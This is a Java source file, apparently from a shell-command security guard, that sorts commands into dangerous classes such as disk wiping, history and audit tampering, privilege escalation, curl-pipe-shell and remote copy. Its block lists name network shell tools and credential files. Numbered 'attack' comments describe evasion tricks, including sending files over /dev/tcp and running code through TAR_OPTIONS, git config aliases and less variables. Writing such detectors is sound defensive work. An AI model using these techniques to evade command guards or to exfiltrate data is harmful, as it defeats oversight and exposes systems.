package dev.gatehouse.policy.shell;

import static dev.gatehouse.policy.shell.GitFiles.*;
import static dev.gatehouse.policy.shell.WrittenThenRun.*;

import java.util.ArrayList;
import java.util.Collections;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * The built-in classes of shell commands a {@code type: shell} policy lists under {@code block}
 * or {@code review}. Each looks at every simple command of a reading (wrapped ones included), the
 * files it writes by redirection, the variables it sets and the functions it defines. docs/policy.md
 * lists each with examples.
 */
public enum ShellClass {
  RECURSIVE_DELETE_ROOT("recursive-delete-root"),
  FILESYSTEM_FORMAT("filesystem-format"),
  RAW_DEVICE_WRITE("raw-device-write"),
  POWER("power"),
  FORK_BOMB("fork-bomb"),
  HISTORY_TAMPER("history-tamper"),
  AUDIT_TAMPER("audit-tamper"),
  SUDO("sudo"),
  PACKAGE_CHANGE("package-change"),
  SERVICE_CHANGE("service-change"),
  PROCESS_KILL("process-kill"),
  FIREWALL_CHANGE("firewall-change"),
  USER_CHANGE("user-change"),
  SCHEDULER_CHANGE("scheduler-change"),
  CURL_PIPE_SHELL("curl-pipe-shell"),
  INTERPRETER_INLINE("interpreter-inline"),
  REMOTE_COPY("remote-copy"),
  NESTED_SHELL("nested-shell"),
  GUARD_TAMPER("guard-tamper");

  private final String label;

  ShellClass(String label) {
    this.label = label;
  }

  public String label() {
    return label;
  }

  public static Optional<ShellClass> byLabel(String label) {
    return Arrays.stream(values()).filter(c -> c.label.equals(label)).findFirst();
  }

  public static List<String> labels() {
    return Arrays.stream(values()).map(ShellClass::label).toList();
  }

  // ---- what the classes know ---------------------------------------------------------------------

  private static final Set<String> SYSTEM_DIRS = Set.of("bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64",
      "libx32", "opt", "proc", "root", "run", "sbin", "srv", "sys", "usr", "var", "mnt", "media", "snap");
  private static final Pattern BLOCK_DEVICE = Pattern.compile(
      "/dev/(sd[a-z]+[0-9]*|hd[a-z]+[0-9]*|vd[a-z]+[0-9]*|xvd[a-z]+[0-9]*|nvme[0-9].*|mmcblk[0-9].*|md[0-9_].*|md/.*"
          + "|dm-[0-9]+|mapper/.*|disk/.*|loop[0-9]+|nbd[0-9]+.*|rbd[0-9]+.*|zd[0-9]+.*|bcache[0-9]+|drbd[0-9]+|mtd.*"
          + "|ram[0-9]+|root|sg[0-9]+|sr[0-9]+|st[0-9]+|nst[0-9]+|fd[0-9]+|mem|kmem|port|nvram|pmem[0-9]+.*"
          // udev's links by major:minor (/dev/block/8:0 is sda, /dev/char/1:1 is mem: attack 17cl), zram
          + "|block/.*|char/.*|zram[0-9]+)");
  private static final Set<String> FORMAT = Set.of("mkfs", "mke2fs", "mkswap", "mkdosfs", "mkntfs", "mkexfatfs",
      "wipefs", "blkdiscard", "fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "cgdisk", "parted", "partprobe");
  private static final Set<String> POWER_NAMES = Set.of("shutdown", "reboot", "halt", "poweroff", "kexec");
  private static final Set<String> SYSTEMCTL_POWER = Set.of("reboot", "poweroff", "halt", "kexec", "suspend", "hibernate",
      "hybrid-sleep", "suspend-then-hibernate", "rescue", "emergency", "soft-reboot", "default", "exit");
  private static final Set<String> SYSTEMCTL_CHANGE = Set.of("start", "stop", "restart", "reload", "try-restart",
      "reload-or-restart", "try-reload-or-restart", "force-reload", "condrestart", "enable", "disable", "reenable",
      "mask", "unmask", "kill", "daemon-reload", "daemon-reexec", "set-property", "edit", "link", "preset",
      "preset-all", "revert", "isolate", "set-default", "add-wants", "add-requires", "clean", "freeze", "thaw",
      "bind", "mount-image", "reset-failed", "import-environment", "set-environment", "unset-environment",
      // systemctl 252's other names for these (condstop is stop) and its verbs that change a unit's or the manager's logging
      "condstop", "condreload", "reload-or-try-restart", "cancel", "log-level", "log-target", "service-log-level",
      "service-log-target");
  private static final Set<String> LOG_SERVICES = Set.of("auditd", "rsyslog", "syslog", "syslog-ng", "systemd-journald",
      "journald", "rsyslogd", "auditd.service", "rsyslog.service", "syslog.service", "syslog-ng.service",
      "systemd-journald.service", "systemd-journald.socket", "systemd-journald-audit.socket", "auditbeat", "filebeat",
      "osqueryd", "falco", "wazuh-agent", "ossec", "fluentd", "fluent-bit", "vector", "promtail", "td-agent");
  private static final Set<String> KILLERS = Set.of("kill", "killall", "pkill", "skill", "slay", "killall5", "xkill", "tkill");
  private static final Set<String> DOWNLOADERS = Set.of("curl", "wget", "fetch", "aria2c", "http", "https", "httpie",
      "lwp-request", "GET", "lynx", "links", "elinks", "w3m", "nc", "ncat", "netcat", "socat", "openssl", "ftp",
      "tftp", "lftp", "scp", "sftp", "rsync", "busybox", "xh", "curlie", "wget2", "gsutil", "aws", "rclone");
  private static final Set<String> COPIERS = Set.of("scp", "sftp", "ftp", "lftp", "tftp", "nc", "ncat", "netcat",
      "socat", "smbclient", "azcopy", "croc", "magic-wormhole", "wormhole", "sshfs");
  private static final Set<String> USER_TOOLS = Set.of("useradd", "userdel", "usermod", "adduser", "deluser", "addgroup",
      "delgroup", "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "gpasswd", "newusers", "vipw", "vigr",
      "visudo", "chsh", "chfn", "lusermod", "luseradd", "luserdel", "pw", "smbpasswd", "pwconv", "pwunconv", "grpconv");
  // gosu, su-exec (containers' sudo), daemontools' setuidgid, s6's: each runs its command as the user it names (attack 17cm)
  private static final Set<String> SUDO_NAMES = Set.of("sudo", "doas", "pkexec", "su", "runuser", "sudoedit", "run0",
      "ksu", "calife", "super", "gosu", "su-exec", "setuidgid", "s6-setuidgid", "s6-applyuidgid", "envuidgid");
  private static final Set<String> WRITERS = Set.of("tee", "cp", "mv", "install", "ln", "dd", "truncate", "sed", "perl",
      "rsync", "touch", "chmod", "chown", "chattr", "rm", "shred", "unlink", "vi", "vim", "nano", "ed", "ex", "emacs",
      "sponge", "patch", "tar", "unzip", "cpio");
  private static final Set<String> REMOVERS = Set.of("rm", "shred", "truncate", "unlink", "mv", "ln", "cp", "tee",
      "dd", "srm", "wipe");
  private static final Pattern HISTORY_FILE = Pattern.compile(
      "(^|/)(\\.[A-Za-z0-9_-]*_history|\\.history|\\.lesshst|\\.viminfo|\\.zhistory|\\.histfile|\\.local/share/fish/fish_history)$");
  private static final Set<String> HISTORY_VARS = Set.of("HISTFILE", "HISTSIZE", "HISTFILESIZE", "HISTCONTROL",
      "HISTIGNORE", "HISTTIMEFORMAT", "HISTCMD");
  private static final Set<String> GUARD_VARS = Set.of("PROMPT_COMMAND", "PS0", "PS1", "PS2", "PS4", "BASH_ENV", "ENV",
      "SHELLOPTS", "BASHOPTS", "LD_PRELOAD", "LD_AUDIT", "BASH_XTRACEFD", "PROMPT_DIRTRIM", "BASH_LOADABLES_PATH",
      // bash expands MAILPATH's messages (command substitution included) before a prompt, unseen.
      "MAILPATH", "MAIL", "MAILCHECK",
      // change how bash reads the lines after: its compatibility level and POSIX mode.
      "BASH_COMPAT", "POSIXLY_CORRECT",
      // bash's command hash table and alias table: an element [name]=value makes the command name
      // run value (as hash -p and alias do), and an assignment without a subscript sets [0], the
      // name 0. Only variables whose value changes what a command name runs belong here: not
      // BASH_ARGV0 ($0) nor BASH_REMATCH (a match's groups), which no command name is looked up in.
      "BASH_CMDS", "BASH_ALIASES");
  private static final Pattern AUTH_FILE = Pattern.compile(
      "/etc/(passwd|shadow|group|gshadow|sudoers|sudoers\\.d(/.*)?|subuid|subgid|login\\.defs|pam\\.d(/.*)?|security(/.*)?|doas\\.conf)"
          + "-?|(.*/)?\\.ssh/authorized_keys2?|(.*/)?\\.ssh(/.*)?|/root/.*|/etc/ssh/sshd_config(\\.d/.*)?");
  private static final Pattern SCHEDULE_FILE = Pattern.compile(
      "/etc/(cron[^/]*(/.*)?|anacrontab|at\\.allow|at\\.deny)|/var/spool/(cron|at|anacron)(/.*)?"
          + "|/etc/systemd/system/.*\\.timer|/(usr/)?lib/systemd/system/.*\\.timer");
  /** AUTH_FILE without its {@code .ssh} parts, which may be anywhere: for paths written with a pattern. */
  private static final Pattern AUTH_FILE_ANCHORED = Pattern.compile(
      "/etc/(passwd|shadow|group|gshadow|sudoers|sudoers\\.d(/.*)?|subuid|subgid|login\\.defs|pam\\.d(/.*)?|security(/.*)?|doas\\.conf)"
          + "-?|/root/.*|/etc/ssh/sshd_config(\\.d/.*)?");
  /** Names of history files, for a pattern in a path's last component. */
  private static final List<String> HISTORY_NAMES = List.of(".bash_history", ".zsh_history", ".sh_history",
      ".python_history", ".mysql_history", ".psql_history", ".sqlite_history", ".node_repl_history", ".rediscli_history",
      ".history", ".lesshst", ".viminfo", ".zhistory", ".histfile");
  private static final Pattern HISTORY_NAME_SHAPE = Pattern.compile(
      "\\.[A-Za-z0-9_-]*(_history)?|\\.history|\\.lesshst|\\.viminfo|\\.zhistory|\\.histfile");
  // /sys/power/state (mem, disk) suspends or hibernates the machine as systemctl suspend does (attack 17cl)
  private static final Pattern SYSRQ = Pattern.compile("/proc/sysrq-trigger|/sys/power/(state|disk)");
  /**
   * A watchdog device: opening it (to read too: {@code cat /dev/watchdog}) arms the timer, and a
   * close without the magic character {@code V} leaves it armed, so the machine reboots when no
   * daemon feeds it (the kernel's watchdog API, "Magic Close"). Attack 17co.
   */
  private static final Pattern WATCHDOG = Pattern.compile("/dev/watchdog[0-9]*");
  /** Programs that take a file's name without opening it: they list, test or print the name. */
  private static final Set<String> NAME_ONLY = Set.of("ls", "stat", "readlink", "realpath", "test", "[", "[[", "echo",
      "printf", "basename", "dirname", "type", "fuser", "lsof");
  private static final Pattern NET_SETTINGS = Pattern.compile("/proc/sys/net(/.*)?");
  private static final Pattern LOG_FILE = Pattern.compile("/var/log(/.*)?|/run/log(/.*)?|/var/audit(/.*)?|/etc/audit(/.*)?"
      + "|/etc/rsyslog\\.(conf|d(/.*)?)|/etc/systemd/journald\\.conf(\\.d/.*)?");

  /** What in {@code c} puts it in this class, or empty. */
  Optional<String> command(ShellCommand c) {
    boolean hit = dbusCall(c, this) || switch (this) {
      case RECURSIVE_DELETE_ROOT -> recursiveDeleteRoot(c);
      case FILESYSTEM_FORMAT -> format(c) || RuntimeChanges.storageDestroys(c);
      case RAW_DEVICE_WRITE -> rawDeviceWrite(c);
      case POWER -> power(c) || opensWatchdog(c);
      case FORK_BOMB -> false;
      case HISTORY_TAMPER -> historyTamper(c);
      case AUDIT_TAMPER -> auditTamper(c);
      case SUDO -> SUDO_NAMES.contains(c.name()) || runsAsOtherUser(c) || ContainerCommands.holdsHost(c);
      case PACKAGE_CHANGE -> packageChange(c);
      // docker run IMAGE, kubectl run NAME --image=I, ctr run I ID without a command or a terminal: a
      // container started running its image's own program (attack 17cr)
      case SERVICE_CHANGE -> serviceChange(c) || RuntimeChanges.storageOrClusterChange(c) || ContainerCommands.starts(c)
          || CloudChanges.change(c);
      case PROCESS_KILL -> processKill(c);
      case FIREWALL_CHANGE -> firewallChange(c) || RuntimeChanges.settingChange(c);
      case USER_CHANGE -> userChange(c);
      case SCHEDULER_CHANGE -> schedulerChange(c);
      case CURL_PIPE_SHELL -> Interpreters.readsCodeFromStdin(c) && c.stdin() == ShellCommand.Stdin.PIPE
          && c.upstream().stream().anyMatch(DOWNLOADERS::contains);
      case INTERPRETER_INLINE -> interpreterInline(c);
      case REMOTE_COPY -> remoteCopy(c);
      case NESTED_SHELL -> nestedShell(c);
      case GUARD_TAMPER -> guardTamper(c);
    };
    // A program that writes a file named by an output option or operand (sort -o, uniq IN OUT, tee,
    // curl -o, …) writes it as a redirection would: each path class judges those names alike.
    // (Only the classes that judge paths ask: the others would read the options for nothing.)
    hit = hit || judgesPaths() && outputFiles(c).stream().anyMatch(this::writesPath);
    return hit ? Optional.of(c.text()) : Optional.empty();
  }

  /** What a read redirection puts in this class ({@code < /dev/watchdog} arms it: power), or empty. */
  Optional<String> read(ShellReading.Redirect r) {
    return this == POWER && PathPatterns.couldMatch(WATCHDOG, r.target().value()) ? Optional.of(r.text()) : Optional.empty();
  }

  /**
   * A program given a watchdog device's name (an operand, a glued option value) that may open it:
   * any but those that only name a file ({@code ls -l /dev/watchdog}).
   */
  private static boolean opensWatchdog(ShellCommand c) {
    if (c.name().equals("wdctl") && c.args().stream().anyMatch(w -> !w.literal() || Regexes.matches(w.value(),
        "-[A-Za-z]*[spg].*") || Wrappers.longOption(w.value(), "settimeout", "s", "se", "set")
        || Wrappers.longOption(w.value(), "setpretimeout", "s", "se", "set", "setp", "setpre")
        || Wrappers.longOption(w.value(), "setpregovernor", "s", "se", "set", "setp", "setpre"))) {
      // wdctl -s/-p/-g set the timeout, pretimeout or governor of /dev/watchdog0 when no device is
      // named: it opens the device (attack 17cq)
      return true;
    }
    // du and file (without -s, --special-files) only stat a device: file reports "character special"
    // without opening it (attack 17cq: a false refusal of the 17co fix)
    if (NAME_ONLY.contains(c.name()) || c.name().equals("du") || c.name().equals("file") && c.args().stream()
        .noneMatch(w -> !w.literal() || Regexes.matches(w.value(), "-[A-Za-z]*s[A-Za-z]*") || w.value().startsWith("--special"))) {
      return false;
    }
    for (Word w : c.args()) {
      String v = w.value();
      String glued = v.startsWith("-") && !v.startsWith("--") && v.indexOf('/') > 0 ? v.substring(v.indexOf('/')) : v;
      for (String f : List.of(v, stripOption(v), glued)) {
        if (f.startsWith("/") && PathPatterns.couldMatch(WATCHDOG, f)) {
          return true;
        }
      }
    }
    return false;
  }

  /** What a write by redirection puts in this class, or empty. */
  Optional<String> write(ShellReading.Redirect w) {
    String p = w.target().value();
    boolean hit = this == INTERPRETER_INLINE ? gitConfigFile(p) || startupFile(w.target()) : writesPath(p);
    // bash opens /dev/tcp/HOST/PORT and /dev/udp/… itself: cat F > /dev/tcp/h/1 sends F (attack 17cm, proven)
    hit = hit || this == REMOTE_COPY && Regexes.matches(p, "(?s)/dev/(tcp|udp)/.*");
    return hit ? Optional.of(w.text()) : Optional.empty();
  }

  /** Whether this is a class that judges the files a command writes ({@link #writesPath}). */
  private boolean judgesPaths() {
    return switch (this) {
      case RAW_DEVICE_WRITE, POWER, HISTORY_TAMPER, AUDIT_TAMPER, USER_CHANGE, SCHEDULER_CHANGE, FIREWALL_CHANGE -> true;
      default -> false;
    };
  }

  /**
   * Whether a word given to a program ({@code p}: an operand, an option with its value glued, {@code
   * --log=FILE}, {@code -fFILE}, {@code of=FILE}) names a file of this path class, for {@link
   * ProtectedOperands}. Account files are read without {@code /root}'s own files (root's working
   * files are no account files; its {@code .ssh} still is, its startup files are interpreter-inline's).
   */
  boolean givenFile(String p) {
    if (!judgesPaths()) {
      return false;
    }
    String glued = p.startsWith("-") && !p.startsWith("--") && p.indexOf('/') > 0 ? p.substring(p.indexOf('/')) : p;
    List<String> forms = new ArrayList<>(List.of(p, stripOption(p), glued));
    // A file: URI (sqlite3 'file:/var/log/auth.log?mode=rwc'), a dot-command's file (sqlite3 DB
    // '.output /etc/passwd', '.once F', '.save F': the last word of a word that starts with a dot),
    // and a quoted name in a word of SQL (ATTACH '/var/log/x', VACUUM INTO '/etc/cron.d/x'): attack 17ck.
    String uri = Regexes.replaceFirst(stripOption(p), "^file:(//(localhost)?)?", "");
    if (!uri.equals(stripOption(p))) {
      forms.add(Regexes.replaceFirst(uri, "\\?.*$", ""));
    }
    if (p.startsWith(".") && Regexes.matches(p, "(?s)\\.[a-z]+\\s.*")) {
      forms.add(p.substring(p.lastIndexOf(' ') + 1).strip());
    }
    java.util.regex.Matcher quoted = QUOTED_NAME.matcher(p);
    // (also in a setting's value without a space: lvs --config 'log/file="/etc/passwd"', attack 17cl)
    while ((p.indexOf(' ') >= 0 || p.indexOf('=') >= 0) && quoted.find()) {
      forms.add(quoted.group(1));
    }
    for (String v : forms) {
      // a device named in part when it runs (/dev/sd$x): any disk
      String known = v.replace(String.valueOf(Word.UNKNOWN), "");
      if (v.indexOf(Word.UNKNOWN) > 0 && (this == RAW_DEVICE_WRITE && known.startsWith("/dev/")
          || this == POWER && known.startsWith("/proc/"))) {
        return true;
      }
      String named = this == USER_CHANGE && v.startsWith("/root/") ? "/nonroot/" + v.substring("/root/".length()) : v;
      if (writesPath(named)) {
        return true;
      }
    }
    return false;
  }

  private static final Pattern QUOTED_NAME = Pattern.compile("['\"](/[^'\"\\s]+)['\"]");

  /** Whether writing the file {@code p} puts a command in this path class. */
  private boolean writesPath(String p) {
    return switch (this) {
      case RAW_DEVICE_WRITE -> device(p);
      case POWER -> PathPatterns.couldMatch(SYSRQ, p) || PathPatterns.couldMatch(WATCHDOG, p);
      case HISTORY_TAMPER -> historyFile(p);
      case AUDIT_TAMPER -> PathPatterns.couldMatch(LOG_FILE, p);
      case USER_CHANGE -> authFile(p);
      case SCHEDULER_CHANGE -> PathPatterns.couldMatch(SCHEDULE_FILE, p);
      // the kernel's settings written as files (echo 1 > /proc/sys/net/ipv4/ip_forward, /proc/sys/kernel/sysrq,
      // /sys/class/net/eth0/…, /sys/block/sda/device/delete), as sysctl -w sets them (all of /proc/sys, /sys: attack 17ct)
      case FIREWALL_CHANGE -> PathPatterns.couldMatch(NET_SETTINGS, p) || PathPatterns.couldMatch(RuntimeChanges.KERNEL_SETTINGS, p)
          || PathPatterns.couldMatch(RuntimeChanges.ZONE_FILES, p);
      default -> false;
    };
  }

  /**
   * The files a program writes by an output option or an output operand, as a redirection writes
   * them: {@code tee} and {@code sponge} their operands, {@code sort}/{@code shuf}/{@code iconv}/{@code curl} {@code
   * -o FILE} (glued, at the end of a bundle, {@code --output[=]FILE} and GNU's prefixes of it),
   * {@code wget -O}/{@code -o}/{@code -a} (the document, its log, the log appended to), {@code
   * uniq IN OUT} and {@code xxd IN OUT}, openssl's {@code -out}/{@code -keyout}. An option letter
   * read as a flag where it takes a value (sort {@code -to x}) only makes more names written.
   */
  static List<String> outputFiles(ShellCommand c) {
    List<Word> a = c.args();
    List<String> out = new ArrayList<>();
    switch (c.name()) {
      case "tee", "sponge" -> operands(c).forEach(w -> out.add(w.value()));
      case "sort", "shuf", "iconv", "curl" -> optionValues(a, 'o', "--output", out);
      // utmpdump -o FILE (-r -o /var/log/wtmp undumps into the login records; attack 17ck)
      case "utmpdump" -> optionValues(a, 'o', "--output", out);
      case "wget" -> {
        optionValues(a, 'O', "--output-document", out);
        optionValues(a, 'o', "--output-file", out);
        optionValues(a, 'a', "--append-output", out);
      }
      case "uniq", "xxd" -> {
        // the second operand is the output (xxd with or without -r); these options take the next word
        Set<String> valued = c.name().equals("uniq")
            ? Set.of("-f", "-s", "-w", "--skip-fields", "--skip-chars", "--check-chars")
            : Set.of("-c", "-g", "-l", "-o", "-s", "-n", "-cols", "-groupsize", "-len", "-offset", "-seek", "-name", "-R");
        // also uniq's long options as getopt_long takes them, abbreviated (uniq --ch 1 IN OUT: attack 17ck)
        List<Word> ops = operandsTaking(a, v -> valued.contains(v) || c.name().equals("uniq") && v.startsWith("--")
            && v.indexOf('=') < 0 && (Wrappers.longOption(v, "skip-fields") || Wrappers.longOption(v, "skip-chars")
            || Wrappers.longOption(v, "check-chars")));
        if (ops.size() >= 2) {
          out.add(ops.get(1).value());
        }
      }
      case "gpg", "gpg2" -> optionValues(a, 'o', "--output", out);
      case "sed", "gsed" -> sedWrittenFiles(ToolScripts.sedSource(a)).forEach(w -> out.add(w.value())); // w FILE, s///w FILE
      case "awk", "gawk", "mawk", "nawk" -> {
        // print > "FILE" and print >> "FILE" in the program: a file named by one string constant
        // (a name joined or read when it runs is interpreter-inline's: GitFiles.awkWritesUnknownFile)
        for (Word p : ToolScripts.awkSource(a).inline()) {
          List<String> targets = p.literal() ? GitFiles.awkWriteTargets(p.value()) : null;
          for (String t : targets == null ? List.<String>of() : targets) {
            String e = t.strip();
            if (Regexes.matches(e, "(?s)>?\\s*\"[^\"\\\\]*\"")) {
              out.add(e.substring(e.indexOf('"') + 1, e.length() - 1));
            }
          }
        }
      }
      case "tar" -> tarArchiveWritten(a).ifPresent(out::add);
      case "script" -> {
        // script [options] [FILE]: the typescript (default ./typescript), and -O/-B/-I/-T log files
        Set<String> valued = Set.of("-c", "--command", "-E", "--echo", "-m", "--logging-format", "-o", "--output-limit");
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (Regexes.matches(v, "-[OBIT]|--(log-out|log-io|log-in|log-timing)") && i + 1 < a.size()) {
            out.add(a.get(++i).value());
          } else if (Regexes.matches(v, "--(log-out|log-io|log-in|log-timing|timing)=.*")) {
            out.add(v.substring(v.indexOf('=') + 1));
          } else if (valued.contains(v)) {
            i++;
          } else if (!v.startsWith("-")) {
            out.add(v);
          }
        }
      }
      case "patch" -> {
        // patch [options] [ORIGFILE [PATCHFILE]]: the file it patches, and -o OUT
        Set<String> valued = Set.of("-B", "-d", "-D", "-F", "-g", "-i", "-p", "-r", "-V", "-Y", "-z", "--prefix",
            "--directory", "--ifdef", "--fuzz", "--get", "--input", "--strip", "--reject-file", "--version-control",
            "--basename-prefix", "--suffix", "--quoting-style");
        List<String> ops = new ArrayList<>();
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i).value();
          if (v.equals("-o") || v.equals("--output")) {
            if (i + 1 < a.size()) {
              out.add(a.get(++i).value());
            }
          } else if (v.startsWith("--output=") || v.startsWith("-o") && v.length() > 2) {
            out.add(v.substring(v.startsWith("--") ? "--output=".length() : 2));
          } else if (valued.contains(v)) {
            i++;
          } else if (!v.startsWith("-") || v.equals("-")) {
            ops.add(v);
          }
        }
        if (!ops.isEmpty() && out.isEmpty()) {
          out.add(ops.get(0)); // with -o the original stays as it is
        }
      }
      case "openssl" -> {
        for (int i = 0; i + 1 < a.size(); i++) {
          if (Regexes.matches(a.get(i).value(), "--?(out|keyout)")) {
            out.add(a.get(i + 1).value());
          }
        }
      }
      default -> {
      }
    }
    return out;
  }

  /**
   * The archive a {@code tar} that creates or adds to one writes: {@code -f FILE}, {@code -fFILE},
   * {@code -cf FILE}, {@code --file[=]FILE}, and old-style {@code cf FILE} (a first word without a
   * dash, whose letters that take a value take the next words in order). Only when a letter or long
   * option of {@code c}, {@code r}, {@code u}, {@code A} (create, append, update, catenate) is there.
   */
  private static Optional<String> tarArchiveWritten(List<Word> a) {
    if (a.isEmpty()) {
      return Optional.empty();
    }
    List<String> av = a.stream().map(Word::value).toList();
    boolean oldStyle = !av.get(0).startsWith("-");
    boolean writes = av.stream().anyMatch(v -> Regexes.matches(v, "--(create|append|update|catenate|concatenate)"))
        || (oldStyle ? Regexes.matches(av.get(0), ".*[cruA].*") : av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[cruA].*")));
    if (!writes) {
      return Optional.empty();
    }
    if (oldStyle) {
      int next = 1;
      for (char ch : av.get(0).toCharArray()) {
        if ("bfgCKLNTVXFHI".indexOf(ch) >= 0) {
          if (ch == 'f') {
            return next < av.size() ? Optional.of(av.get(next)) : Optional.empty();
          }
          next++;
        }
      }
    }
    List<String> found = new ArrayList<>();
    optionValues(a, 'f', "--file", found);
    return found.isEmpty() ? Optional.empty() : Optional.of(found.get(found.size() - 1));
  }

  /**
   * The values of a short option {@code -L} (the next word when it ends a bundle, else the rest of
   * the bundle after it) and of {@code LONG} ({@code LONG=V}, {@code LONG V}, and any abbreviation
   * of it, as GNU getopt_long takes one: {@code sort --o=FILE}; {@link Wrappers#longOption}), up to
   * {@code --}.
   */
  private static void optionValues(List<Word> a, char letter, String longName, List<String> out) {
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (v.equals("--")) {
        return;
      }
      if (v.startsWith("--")) {
        int eq = v.indexOf('=');
        if (Wrappers.longOption(v, longName.substring(2))) {
          if (eq >= 0) {
            out.add(v.substring(eq + 1));
          } else if (i + 1 < a.size()) {
            out.add(a.get(i + 1).value());
          }
        }
      } else if (v.startsWith("-") && v.length() > 1) {
        int at = v.indexOf(letter, 1);
        if (at > 0 && at + 1 < v.length()) {
          out.add(v.substring(at + 1));
        } else if (at > 0 && i + 1 < a.size()) {
          out.add(a.get(i + 1).value());
        }
      }
    }
  }

  /** What setting (or unsetting) a variable puts in this class, or empty. */
  Optional<String> assignment(ShellReading.Assignment a) {
    // PS1[0]=x sets PS1, and every element of PROMPT_COMMAND runs: the variable, not the element, counts.
    String v = a.variable();
    boolean hit = switch (this) {
      case HISTORY_TAMPER -> HISTORY_VARS.contains(v) || tapeNames(a);
      case GUARD_TAMPER -> GUARD_VARS.contains(v) || v.startsWith("BASH_FUNC_")
          || a.value() != null && a.value().value().startsWith("()") || changesCharacterSet(a);
      case INTERPRETER_INLINE -> CommandPrompts.pagerSecureOff(a) || PsqlClient.pgoptionsCode(a) || a.value() != null && !a.value().value().isEmpty()
          && (CODE_OPTION_VARS.contains(v) || Regexes.matches(v, "GIT_CONFIG_(KEY|VALUE)_[0-9]+") || makeRuleCode(v, a.value())
          || CONFIG_HOME_VARS.contains(v) || v.equals("MAKEFILES") && makefilesCode(a.value())
          || v.equals("LESSHISTFILE") && lessHistoryKept(a.value())
          || DBUS_ADDRESS_VARS.contains(v) && !plainBusAddress(a.value())
          || Regexes.matches(v, "CMAKE_[A-Za-z0-9_]+_(COMPILER|LINKER)_LAUNCHER") && cmakeProgramCode(v, a.value())
          || v.equals("GIT_ALLOW_PROTOCOL") && (!a.value().literal() || a.value().value().toLowerCase(Locale.ROOT).contains("ext"))
          || v.equals("SHELL") && !bashLikeShell(a.value()));
      case NESTED_SHELL -> v.equals("PYTHONINSPECT") && a.value() != null && !a.value().value().isEmpty();
      case PACKAGE_CHANGE -> packageScopeVariable(a);
      case RAW_DEVICE_WRITE, POWER, AUDIT_TAMPER, USER_CHANGE, SCHEDULER_CHANGE -> tapeNames(a);
      default -> false;
    };
    return hit ? Optional.of(a.text()) : Optional.empty();
  }

  /**
   * {@code TAPE}, the archive tar (and mt) use without {@code -f}: set to a file of this path class,
   * {@code tar -c} writes it ({@code TAPE=/var/log/auth.log tar -c /tmp}, attack 17ck) as {@code -f}
   * would.
   */
  private boolean tapeNames(ShellReading.Assignment a) {
    return a.variable().equals("TAPE") && a.value() != null && givenFile(a.value().value());
  }

  /**
   * Variables a program reads as its own options, configuration or code: set, they make a
   * command the guard judged run more ({@code TAR_OPTIONS='--checkpoint-action=exec=CMD' tar},
   * {@code GIT_CONFIG_PARAMETERS="'alias.st'='!CMD'" git st}, {@code PERL5OPT=-d PERL5DB='system(…)'},
   * {@code NODE_OPTIONS=--require=FILE}), as the same options on the command line do. {@code ZIP}
   * is read as {@code ZIPOPT} ({@code -TT CMD}); {@code SYSTEMD_LESS} is the {@code LESS} systemd
   * gives its pager ({@code +!CMD}); less's key files ({@code LESSKEY*}, {@code LESSKEY_CONTENT})
   * may set {@code LESSOPEN}. {@code MANROFFOPT} holds the options man gives groff ({@code -U}:
   * unsafe mode); {@code COMPILER_PATH} and {@code GCC_EXEC_PREFIX} are gcc's {@code -B}. vim runs
   * {@code VIMINIT}/{@code EXINIT} ({@code GVIMINIT}) as Ex commands at startup, as a vimrc, and
   * sources the scripts of {@code VIMRUNTIME} and {@code $VIM/vimfiles}; {@code MAILCAPS} lists
   * the mailcap files whose commands {@code python3 -m mailcap} runs; groff runs its programs from
   * {@code GROFF_BIN_PATH} and the postprocessor a font directory's {@code DESC} names, each named
   * {@code $GROFF_COMMAND_PREFIX} and its own name ({@code GROFF_COMMAND_PREFIX=./ nroff} runs {@code ./troff}). man-db's
   * {@code MANLESS} is its less prompt (a {@code $} ends it and starts less's options, as for {@code
   * man -r}), and older man-db hands it to less as the whole {@code LESS}. Python loads its code
   * from where {@code PYTHONPLATLIBDIR} (the standard library's directory under the prefix: {@code
   * ../../tmp/x} is any directory) and {@code PYTHONUSERBASE} (the user site, whose {@code .pth}
   * files run) say, and with {@code PYTHONPYCACHEPREFIX} every module's {@code .pyc} from under
   * that prefix, an unchecked hash-based one without looking at the source ({@code
   * PREFIX/usr/lib/python3.11/sitecustomize.cpython-311.pyc}): in any program whose interpreter is
   * Python ({@code yq}, {@code pip3}), not only {@code python3}. less's {@code
   * LESSMETACHARS}/{@code LESSMETAESCAPE} say how it quotes a file name or tag it puts in the
   * commands it runs ({@code LESSMETACHARS=Z LESSGLOBALTAGS=global less -t '$(CMD)'} runs CMD, also
   * in secure mode; empty, they are the safe defaults). git-mergetool--lib sources its tools from
   * {@code MERGE_TOOLS_DIR} ({@code git difftool -t vimdiff} runs {@code ./vimdiff} with {@code .}).
   * gcloud, gsutil and bq give their Python {@code CLOUDSDK_PYTHON_ARGS} as options, split at blanks
   * ({@code -c CODE}).
   */
  static final Set<String> CODE_OPTION_VARS = Set.of("TAR_OPTIONS", "GIT_CONFIG_PARAMETERS", "GIT_CONFIG_COUNT",
      "GIT_CONFIG", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "PERL5OPT", "PERL5DB", "PERLDB_OPTS", "PERL5LIB",
      "PERLLIB", "RUBYOPT", "RUBYLIB", "NODE_OPTIONS", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "ZIPOPT", "UNZIP",
      "LESS", "MORE", "MANOPT", "MAKEFLAGS", "MFLAGS", "GNUMAKEFLAGS", "LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH",
      "RSYNC_CONNECT_PROG", "WGETRC", "CURL_HOME", "KUBECONFIG", "SSH_ASKPASS_REQUIRE", "GIT_EXEC_PATH",
      "GIT_TEMPLATE_DIR", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "ZIP", "SYSTEMD_LESS", "LESSKEY",
      "LESSKEYIN", "LESSKEY_SYSTEM", "LESSKEYIN_SYSTEM", "LESSKEY_CONTENT", "MANROFFOPT", "COMPILER_PATH", "GCC_EXEC_PREFIX",
